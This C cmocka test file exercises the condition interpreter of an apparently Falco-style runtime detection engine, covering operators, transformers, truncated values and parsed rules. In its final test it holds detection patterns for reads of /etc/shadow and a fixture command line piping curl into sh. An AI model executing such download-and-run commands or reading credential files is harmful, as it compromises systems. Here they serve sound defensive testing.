    assert_int_equal(_run(_cmp("fd.cnet", OP_EQ, "2001:4860:4860::8888/48"), &env), T);
    assert_int_equal(_run(_cmp("fd.cnet", OP_NE, "10.0.0.0/8"), &env), T);
    assert_int_equal(_run(_in("fd.snet", OP_IN, "10.0.0.0/8", "142.251.0.0/16", NULL), &env), T);
    assert_int_equal(_run(_cmp("fd.snet", OP_EQ, "0.0.0.0/0"), &env), T);
    /* rulec's extension: an address field against a network */
    assert_int_equal(_run(_in("fd.sip", OP_IN, "10.0.0.0/8", "142.251.0.0/16", NULL), &env), T);
    assert_int_equal(_run(_in("fd.sip", OP_IN, "10.0.0.0/8", NULL), &env), F);
    _bad(_cmp("fd.sip", OP_EQ, "142.251.111"), 100, "IP address");
    _bad(_cmp("fd.snet", OP_EQ, "10.0.0.0/33"), 100, "network");
    _bad(_cmp("fd.sip", OP_CONTAINS, "1"), 5, "contains");
    /* an address given as text */
    struct env txt = {0};
    _str(&txt, "fd.sip", "10.1.2.3");
    assert_int_equal(_run(_cmp("fd.sip", OP_EQ, "10.1.2.3"), &txt), T);
}

static void test_list_fields(void **state)
{
    /* FF_LIST: in = every element in the set, intersects = one is */
    struct env env = {0};
    _list(&env, "ka.user.groups", false, "system:authenticated", "dev", NULL);
    assert_int_equal(
        _run(_in("ka.user.groups", OP_IN, "dev", "system:authenticated", "ops", NULL), &env), T);
    assert_int_equal(_run(_in("ka.user.groups", OP_IN, "dev", NULL), &env), F);
    assert_int_equal(_run(_in("ka.user.groups", OP_INTERSECTS, "dev", "x", NULL), &env), T);
    assert_int_equal(_run(_in("ka.user.groups", OP_INTERSECTS, "x", "y", NULL), &env), F);
    assert_int_equal(_run(_cmp("ka.user.groups", OP_EXISTS, NULL), &env), T);
    struct env empty = {0};
    _list(&empty, "ka.user.groups", false, NULL);
    assert_int_equal(_run(_in("ka.user.groups", OP_IN, "dev", NULL), &empty), T);
    assert_int_equal(_run(_in("ka.user.groups", OP_INTERSECTS, "dev", NULL), &empty), F);
    assert_int_equal(_run(_cmp("ka.user.groups", OP_EXISTS, NULL), &empty), T);
    /* only in, intersects and exists apply to lists */
    _bad(_cmp("ka.user.groups", OP_EQ, "dev"), 5, "list");
    /* len() of a list is its size */
    assert_int_equal(_run(_cmp("len(ka.user.groups)", OP_EQ, "2"), &env), T);
    assert_int_equal(_run(_cmp("len(ka.user.groups)", OP_EQ, "0"), &empty), T);
    /* transformers apply to each element */
    struct env upper = {0};
    _list(&upper, "ka.user.groups", false, "DEV", "Ops", NULL);
    assert_int_equal(_run(_in("tolower(ka.user.groups)", OP_IN, "dev", "ops", NULL), &upper), T);
}

static void test_ancestors_and_either_end(void **state)
{
    /* proc.aname without an index: any ancestor, for every operator */
    struct env env = {0};
    _list(&env, "proc.aname", false, "sshd", "bash", "systemd", NULL);
    assert_int_equal(_run(_cmp("proc.aname", OP_EQ, "bash"), &env), T);
    assert_int_equal(_run(_cmp("proc.aname", OP_EQ, "zsh"), &env), F);
    assert_int_equal(_run(_not(_cmp("proc.aname", OP_EQ, "bash")), &env), F);
    assert_int_equal(_run(_cmp("proc.aname", OP_NE, "bash"), &env), T);
    assert_int_equal(_run(_in("proc.aname", OP_IN, "zsh", "systemd", NULL), &env), T);
    assert_int_equal(_run(_cmp("proc.aname", OP_STARTSWITH, "sys"), &env), T);
    assert_int_equal(_run(_cmp("proc.aname", OP_EXISTS, NULL), &env), T);
    struct env none = {0};
    _list(&none, "proc.aname", false, NULL);
    assert_int_equal(_run(_cmp("proc.aname", OP_EXISTS, NULL), &none), F);
    assert_int_equal(_run(_cmp("proc.aname", OP_NE, "x"), &none), F);
    /* with an index it is one value */
    struct env one = {0};
    struct field_value *v = _put(&one, "proc.aname", "2");
    v->kind = FV_STR;
    v->str = (struct fv_str){"bash", 4};
    assert_int_equal(_run(_cmp("proc.aname[2]", OP_EQ, "bash"), &one), T);
    assert_int_equal(_run(_cmp("proc.aname", OP_EQ, "bash"), &one), F);
    /* proc.apid: numbers as list elements */
    struct env pids = {0};
    _list(&pids, "proc.apid", false, "100", "1", NULL);
    assert_int_equal(_run(_cmp("proc.apid", OP_EQ, "1"), &pids), T);
    assert_int_equal(_run(_cmp("proc.apid", OP_GT, "500"), &pids), F);
    /* fd.ip: either end equal; != only when both differ */
    struct env fd = {0};
    _list(&fd, "fd.ip", false, "172.40.111.222", "142.251.111.147", NULL);
    assert_int_equal(_run(_cmp("fd.ip", OP_EQ, "142.251.111.147"), &fd), T);
    assert_int_equal(_run(_cmp("fd.ip", OP_NE, "142.251.111.147"), &fd), F);
    assert_int_equal(_run(_cmp("fd.ip", OP_NE, "10.0.0.1"), &fd), T);
    struct env port = {0};
    _list(&port, "fd.port", false, "54321", "443", NULL);
    assert_int_equal(_run(_cmp("fd.port", OP_EQ, "443"), &port), T);
    assert_int_equal(_run(_cmp("fd.port", OP_LT, "1024"), &port), T);
    assert_int_equal(_run(_cmp("fd.port", OP_NE, "443"), &port), F);
}

static void test_transformers(void **state)
{
    struct env env = {0};
    _str(&env, "proc.name", "BaSh");
    _str(&env, "fd.name", "/usr/bin/Python3");
    _str(&env, "proc.cmdline", "aGVsbG8=");
    _str(&env, "proc.args", "not base64!");
    assert_int_equal(_run(_cmp("tolower(proc.name)", OP_EQ, "bash"), &env), T);
    assert_int_equal(_run(_cmp("toupper(proc.name)", OP_EQ, "BASH"), &env), T);
    assert_int_equal(_run(_cmp("basename(fd.name)", OP_EQ, "Python3"), &env), T);
    assert_int_equal(_run(_cmp("tolower(basename(fd.name))", OP_EQ, "python3"), &env), T);
    assert_int_equal(_run(_cmp("b64(proc.cmdline)", OP_EQ, "hello"), &env), T);
    assert_int_equal(_run(_cmp("len(proc.name)", OP_EQ, "4"), &env), T);
    assert_int_equal(_run(_cmp("len(fd.name)", OP_GT, "10"), &env), T);
    assert_int_equal(_run(_cmp("len(b64(proc.cmdline))", OP_EQ, "5"), &env), T);
    /* a b64 that does not decode fails the extraction: no value */
    assert_int_equal(_run(_cmp("b64(proc.args)", OP_EXISTS, NULL), &env), F);
    assert_int_equal(_run(_not(_cmp("b64(proc.args)", OP_EQ, "x")), &env), T);
    /* transformers do not touch the event's own value */
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, "BaSh"), &env), T);
    /* basename of a path ending in '/' is empty */
    struct env dir = {0};
    _str(&dir, "fd.name", "/etc/");
    assert_int_equal(_run(_cmp("basename(fd.name)", OP_EQ, ""), &dir), T);
    /* core/transform.h on its own */
    struct ast_field f = _field("toupper(basename(fd.name))");
    struct field_value v = {.kind = FV_STR, .str = {"/a/bc", 5}};
    struct scratch scratch = {0};
    assert_int_equal(transform_apply(&f, &v, &scratch), 0);
    assert_int_equal(v.kind, FV_STR);
    assert_int_equal(v.str.len, 2);
    assert_memory_equal(v.str.ptr, "BC", 2);
    struct ast_field l = _field("len(fd.name)");
    struct field_value lv = {.kind = FV_STR, .str = {"/a/bc", 5}};
    assert_int_equal(transform_apply(&l, &lv, &scratch), 0);
    assert_int_equal(lv.kind, FV_UINT);
    assert_int_equal(lv.u, 5);
    struct ast_field b = _field("b64(proc.cmdline)");
    const char *const decodes[][2] = {
        {"aGVsbG8=", "hello"},
        {"aGVsbG8", "hello"},
        {"d29ybGQgIQ==", "world !"},
        {"", ""},
    };
    for (size_t i = 0; i < 4; i++) {
        struct field_value bv = {.kind = FV_STR, .str = {decodes[i][0], strlen(decodes[i][0])}};
        assert_int_equal(transform_apply(&b, &bv, &scratch), 0);
        assert_int_equal(bv.kind, FV_STR);
        assert_int_equal(bv.str.len, strlen(decodes[i][1]));
        assert_memory_equal(bv.str.ptr, decodes[i][1], bv.str.len);
    }
    const char *const bad[] = {"a", "aGVsbG9=", "aG=Vs", "a===", "====", "aGV*bG8="};
    for (size_t i = 0; i < 6; i++) {
        struct field_value bv = {.kind = FV_STR, .str = {bad[i], strlen(bad[i])}};
        assert_int_equal(transform_apply(&b, &bv, &scratch), 0);
        assert_int_equal(bv.kind, FV_NONE);
    }
    assert_int_equal(transform_apply(&b, NULL, &scratch), -EINVAL);
    scratch_free(&scratch);
    assert_int_equal(transform_field_type(&l), FT_UINT);
    assert_int_equal(transform_field_type(&f), FT_PATH);
    struct ast_field unbound = {.name = "x.y"};
    assert_int_equal(transform_field_type(&unbound), FT_STRING);
}

static void test_rhs_field(void **state)
{
    struct env env = {0};
    _str(&env, "proc.name", "bash");
    _str(&env, "proc.pname", "BASH");
    _uint(&env, "proc.pid", 10);
    _uint(&env, "proc.ppid", 9);
    _list(&env, "proc.aname", false, "init", "bash", NULL);
    assert_int_equal(_run(_rf("proc.name", OP_EQ, "proc.pname"), &env), F);
    assert_int_equal(_run(_rf("proc.name", OP_EQ, "tolower(proc.pname)"), &env), T);
    assert_int_equal(_run(_rf("toupper(proc.name)", OP_EQ, "proc.pname"), &env), T);
    assert_int_equal(_run(_rf("proc.pid", OP_GT, "proc.ppid"), &env), T);
    assert_int_equal(_run(_rf("proc.pid", OP_LT, "proc.ppid"), &env), F);
    assert_int_equal(_run(_rf("proc.name", OP_IN, "proc.aname"), &env), T);
    /* a missing right-hand value: false, and `not` true */
    assert_int_equal(_run(_rf("proc.name", OP_EQ, "proc.exe"), &env), F);
    assert_int_equal(_run(_not(_rf("proc.name", OP_EQ, "proc.exe")), &env), T);
    _bad(_rf("proc.name", OP_REGEX, "proc.pname"), 0, "on its right");
}

static void test_getter_error_fails_closed(void **state)
{
    struct env env = {0};
    _broken(&env, "proc.name");
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, "bash"), &env), M);
    assert_int_equal(_run(_not(_cmp("proc.name", OP_EQ, "bash")), &env), M);
    _str(&env, "proc.pname", "x");
    assert_int_equal(_run(_rf("proc.pname", OP_EQ, "proc.name"), &env), M);
}

static void test_truncation(void **state)
{
    struct env env = {0};
    /* the kernel captured "/usr/lo" of a longer path */
    _trunc(&env, "fd.name", "/usr/lo");
    /* = and in: decided false unless the prefix fits */
    assert_int_equal(_run(_cmp("fd.name", OP_EQ, "/usr/local/bin"), &env), M);
    assert_int_equal(_run(_cmp("fd.name", OP_EQ, "/usr/lib"), &env), F);
    assert_int_equal(_run(_cmp("fd.name", OP_EQ, "/usr"), &env), F);
    assert_int_equal(_run(_cmp("fd.name", OP_NE, "/usr/lib"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_NE, "/usr/local"), &env), M);
    assert_int_equal(_run(_in("fd.name", OP_IN, "/etc", "/usr/local", NULL), &env), M);
    assert_int_equal(_run(_in("fd.name", OP_IN, "/etc", "/usr/lib", NULL), &env), F);
    /* startswith: decided when the pattern lies within the prefix */
    assert_int_equal(_run(_cmp("fd.name", OP_STARTSWITH, "/usr/"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_STARTSWITH, "/etc/"), &env), F);
    assert_int_equal(_run(_cmp("fd.name", OP_STARTSWITH, "/usr/local/"), &env), M);
    assert_int_equal(_run(_cmp("fd.name", OP_STARTSWITH, "/usr/lib/"), &env), F);
    /* contains: found is found, otherwise the rest may hold it */
    assert_int_equal(_run(_cmp("fd.name", OP_CONTAINS, "sr/l"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_CONTAINS, "bin"), &env), M);
    assert_int_equal(_run(_cmp("fd.name", OP_ICONTAINS, "USR"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_ENDSWITH, ".so"), &env), M);
    /* glob: the literal head decides */
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/etc/*"), &env), F);
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/usr/*"), &env), M);
    assert_int_equal(_run(_cmp("fd.name", OP_GLOB, "/usr/l"), &env), F);
    /* regex: false only when no continuation can match */
    assert_int_equal(_run(_cmp("fd.name", OP_REGEX, "/usr/local/.*"), &env), M);
    assert_int_equal(_run(_cmp("fd.name", OP_REGEX, "/etc/.*"), &env), F);
    assert_int_equal(_run(_cmp("fd.name", OP_REGEX, "/usr/lo"), &env), M);
    assert_int_equal(_run(_cmp("fd.name", OP_REGEX, "/usr/l"), &env), F); /* too short */
    assert_int_equal(_run(_cmp("fd.name", OP_REGEX, "/usr/(lo|li)b?"), &env), M);
    /* pmatch: complete components decide */
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/usr", NULL), &env), T);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/etc", NULL), &env), F);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/usr/local", NULL), &env), M);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/usr/lib", NULL), &env), F);
    assert_int_equal(_run(_in("fd.name", OP_PMATCH, "/usr/l*", NULL), &env), M);
    /* string order: decided by a difference inside the prefix */
    assert_int_equal(_run(_cmp("fd.name", OP_LT, "/usr/m"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_GT, "/usr/la"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_GT, "/usr/lozzz"), &env), M);
    assert_int_equal(_run(_cmp("fd.name", OP_GE, "/usr/lo"), &env), T);
    assert_int_equal(_run(_cmp("fd.name", OP_LT, "/usr/lo"), &env), F);
    /* len(): a lower bound */
    assert_int_equal(_run(_cmp("len(fd.name)", OP_GT, "3"), &env), T);
    assert_int_equal(_run(_cmp("len(fd.name)", OP_LT, "5"), &env), F);
    assert_int_equal(_run(_cmp("len(fd.name)", OP_EQ, "20"), &env), M);
    assert_int_equal(_run(_cmp("len(fd.name)", OP_EQ, "3"), &env), F);
    /* transformers: tolower keeps the prefix, basename is unknown */
    assert_int_equal(_run(_cmp("toupper(fd.name)", OP_STARTSWITH, "/USR"), &env), T);
    assert_int_equal(_run(_cmp("basename(fd.name)", OP_EQ, "lo"), &env), M);
    assert_int_equal(_run(_cmp("fd.name", OP_EXISTS, NULL), &env), T);
    /* three-valued logic: an undecided atom stays undecided under not */
    struct ast_node *maybe = _cmp("fd.name", OP_EQ, "/usr/local/bin");
    assert_int_equal(_run(_not(maybe), &env), M);
    assert_int_equal(_run(_bin(AST_AND, maybe, _cmp("fd.name", OP_EQ, "/etc")), &env), F);
    assert_int_equal(_run(_bin(AST_OR, maybe, _cmp("fd.name", OP_STARTSWITH, "/usr")), &env), T);
    assert_int_equal(_run(_bin(AST_AND, maybe, _cmp("fd.name", OP_STARTSWITH, "/usr")), &env), M);
    /* a NUL inside the prefix ends the C string: decided */
    struct env nul = {0};
    _strn(&nul, "proc.name", "ab\0c", 4, true);
    assert_int_equal(_run(_cmp("proc.name", OP_EQ, "ab"), &nul), T);
    /* modifiers count undecided values */
    assert_int_equal(_run(_mod("fd.name", OP_EQ, MOD_ANYOF, "/etc", "/usr/local", NULL), &env), M);
    assert_int_equal(_run(_mod("fd.name", OP_STARTSWITH, MOD_ONEOF, "/usr", "/usr/l", NULL), &env),
                     F);
    assert_int_equal(_run(_mod("fd.name", OP_STARTSWITH, MOD_ONEOF, "/usr", "/etc", NULL), &env),
                     T);
    /* lists that may hold more elements */
    struct env list = {0};
    _list(&list, "ka.user.groups", true, "dev", "op", NULL);
    assert_int_equal(_run(_in("ka.user.groups", OP_INTERSECTS, "dev", NULL), &list), T);
    assert_int_equal(_run(_in("ka.user.groups", OP_INTERSECTS, "ops", NULL), &list), M);
    assert_int_equal(_run(_in("ka.user.groups", OP_IN, "dev", "ops", NULL), &list), M);
    assert_int_equal(_run(_in("ka.user.groups", OP_IN, "ops", NULL), &list), F);
    struct env anc = {0};
    _list(&anc, "proc.aname", true, "sshd", "ba", NULL);
    assert_int_equal(_run(_cmp("proc.aname", OP_EQ, "sshd"), &anc), T);
    assert_int_equal(_run(_cmp("proc.aname", OP_EQ, "ba"), &anc), M);  /* the last may go on */
    assert_int_equal(_run(_cmp("proc.aname", OP_EQ, "zsh"), &anc), M); /* more may follow */
    assert_int_equal(_run(_cmp("proc.aname", OP_STARTSWITH, "b"), &anc), T);
    /* b64 of a prefix: whole quads decode, a bad character decides */
    struct env b = {0};
    _trunc(&b, "proc.cmdline", "aGVsbG8gd29y");
    assert_int_equal(_run(_cmp("b64(proc.cmdline)", OP_STARTSWITH, "hello wor"), &b), T);
    assert_int_equal(_run(_cmp("b64(proc.cmdline)", OP_EQ, "hello world"), &b), M);
    struct env bb = {0};
    _trunc(&bb, "proc.cmdline", "aGV*");
    assert_int_equal(_run(_cmp("b64(proc.cmdline)", OP_EXISTS, NULL), &bb), F);
}

/* A resolver-independent check of the ops table: every operator on a
 * string field compiles and runs without a diagnostic. */
static void test_every_string_operator(void **state)
{
    struct env env = {0};
    _str(&env, "proc.name", "x");
    for (int op = 0; op < OP_MAX; op++) {
        if (op == OP_BCONTAINS || op == OP_BSTARTSWITH)
            continue;
        struct ast_node *n = op == OP_IN || op == OP_INTERSECTS || op == OP_PMATCH
                                 ? _in("proc.name", (enum ast_op)op, "x", NULL)
                                 : _cmp("proc.name", (enum ast_op)op, op == OP_EXISTS ? NULL : "x");
        enum interp_result r = _run(n, &env);
        bool want = op != OP_NE && op != OP_LT && op != OP_GT;
        assert_int_equal(r, want ? T : F);
    }
}

static void test_eval_atom(void **state)
{
    struct env env = {0};
    _str(&env, "proc.name", "bash");
    struct ast_node *a = _cmp("proc.name", OP_EQ, "bash");
    struct ast_node *b = _cmp("proc.name", OP_REGEX, "z.*");
    struct ast_node *cond = _bin(AST_OR, a, _not(b));
    struct interp *it = interp_new(cond);
    assert_non_null(it);
    assert_int_equal(interp_eval_atom(it, a, _get, &env), T);
    assert_int_equal(interp_eval_atom(it, b, _get, &env), F);
    /* an atom from elsewhere is compiled for the call */
    struct ast_node *c = _cmp("proc.name", OP_STARTSWITH, "ba");
    assert_int_equal(interp_eval_atom(it, c, _get, &env), T);
    assert_int_equal(interp_eval_atom(NULL, c, _get, &env), T);
    assert_int_equal(interp_eval_atom(it, cond, _get, &env), F); /* not an atom */
    assert_int_equal(interp_eval_atom(NULL, _cmp("proc.pid", OP_EQ, "x"), _get, &env), F);
    interp_free(&it);
    interp_free(&it); /* idempotent */
    assert_false(interp_eval(NULL, _get, &env));
}

/* Conditions through the real grammar and binder: the AST shapes the
 * interpreter relies on (transformer order, val(), hex values, modifiers)
 * are the ones the parser builds. */
static enum interp_result _parsed(const char *text, struct env *env)
{
    struct diag_list diags = {0};
    struct ast_node *n = condition_parse(_arena, text, strlen(text), NULL, &diags);
    for (size_t i = 0; i < diags.len; i++)
        print_error("%s: %s\n", text, diags.items[i].message);
    diag_list_free(&diags);
    assert_non_null(n);
    assert_null(bind_condition(n));
    return _run(n, env);
}

static void test_parsed_conditions(void **state)
{
    struct env env = {0};
    _str(&env, "evt.type", "openat");
    _str(&env, "fd.name", "/etc/shadow");
    _str(&env, "proc.name", "Bash");
    _str(&env, "proc.pname", "Bash");
    _str(&env, "proc.cmdline", "bash -c curl x | sh");
    _strn(&env, "evt.buffer",
          "\x7f"
          "ELF",
          4, false);
    _ip(&env, "fd.sip", "142.251.111.147");
    assert_int_equal(_parsed("evt.type in (open, openat) and fd.name pmatch (/etc) and not "
                             "proc.name in (sshd, systemd)",
                             &env),
                     T);
    assert_int_equal(_parsed("proc.cmdline contains curl and proc.name = Bash", &env), T);
    assert_int_equal(_parsed("fd.name glob '/etc/*' and fd.name iglob '/ETC/SH*'", &env), T);
    assert_int_equal(_parsed("tolower(proc.name) = bash and toupper(proc.name) != bash", &env), T);
    assert_int_equal(_parsed("proc.name = val(proc.pname)", &env), T);
    assert_int_equal(_parsed("evt.buffer bcontains 7f454c46", &env), T);
    assert_int_equal(_parsed("proc.name startswith anyof (ba, Ba)", &env), T);
    assert_int_equal(_parsed("proc.cmdline regex '.*[|] *sh'", &env), T);
    assert_int_equal(_parsed("fd.sip in (10.0.0.1, 142.251.111.147)", &env), T);
    assert_int_equal(_parsed("not proc.pid exists or proc.pid > 100", &env), T);
    assert_int_equal(_parsed("len(fd.name) = 11 and basename(fd.name) = shadow", &env), T);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_missing_values_and_not, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_and_or_bool, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_macro_is_an_error, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_strings, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_bytes, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_numbers, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_booleans, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_in_and_intersects, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_glob, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_regex, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_pmatch, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_modifiers, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_addresses, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_list_fields, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_ancestors_and_either_end, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_transformers, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_rhs_field, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_getter_error_fails_closed, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_truncation, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_every_string_operator, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_eval_atom, _setup, _teardown),
        cmocka_unit_test_setup_teardown(test_parsed_conditions, _setup, _teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
